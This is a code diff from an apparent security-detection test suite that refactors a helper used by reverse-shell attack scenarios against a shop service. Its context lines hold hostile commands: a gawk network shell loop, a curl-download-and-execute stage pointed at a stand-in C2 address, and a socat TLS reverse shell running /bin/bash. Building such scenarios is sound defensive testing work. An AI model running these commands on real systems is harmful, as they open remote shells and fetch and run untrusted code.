@@ -12,21 +12,16 @@ from proving import bundles
 from proving.files import COMPILED
 from proving.homes import furnish
 from proving.hosts import Asked, Reply
-from proving.operators import Operator, waits
+from proving.operators import waits
 from proving.scenario import Must, attack
-from proving.world import Actor, ScenarioError, World
+from proving.scenarios.reverse_shells import over
+from proving.world import ScenarioError, World
 
 C2 = "203.0.113.150"
 NOT = ("port-scan", "lateral-movement", "cryptomining", "data-exfiltration")
 MAY = ("unexpected-process", "baseline-deviation", "beaconing")
 SHOP = "shop.service"
 NOBODY = 65534
-
-
-def _over(operator: Operator, actor: Actor) -> None:
-    actor.wait(30)
-    if not operator.answered:
-        raise ScenarioError(f"no answer to id: {operator.heard} {actor.said()[-200:]}")
 
 
 @attack(
@@ -44,7 +39,7 @@ def gawk(world: World) -> None:
         "while((c | getline o)>0)print o |& s;close(c);fflush(s)}close(s)}"
     )
     world.mark()
-    _over(operator, world.start("gawk", code, unit=SHOP))
+    over(operator, world.start("gawk", code, unit=SHOP), 30)
 
 
 GO_SHELL = """package main
@@ -87,7 +82,7 @@ def go_shell(world: World) -> None:
     operator = waits(world, C2, 8080)
     stage = "curl -s http://cdn.node-runtime.example/rt -o /tmp/.rt && chmod +x /tmp/.rt"
     world.mark()
-    _over(operator, world.start("sh", "-c", f"{stage} && /tmp/.rt {C2}:8080; true", unit=SHOP))
+    over(operator, world.start("sh", "-c", f"{stage} && /tmp/.rt {C2}:8080; true", unit=SHOP), 30)
 
 
 @attack(
@@ -101,7 +96,7 @@ def go_shell(world: World) -> None:
 def socat_tls(world: World) -> None:
     operator = waits(world, C2, 443, "ws.live-assets.example", tls=True)
     world.mark()
-    _over(operator, world.start("socat", "OPENSSL:ws.live-assets.example:443,verify=0", "EXEC:/bin/bash", unit=SHOP))
+    over(operator, world.start("socat", "OPENSSL:ws.live-assets.example:443,verify=0", "EXEC:/bin/bash", unit=SHOP), 30)
 
 
 @attack(
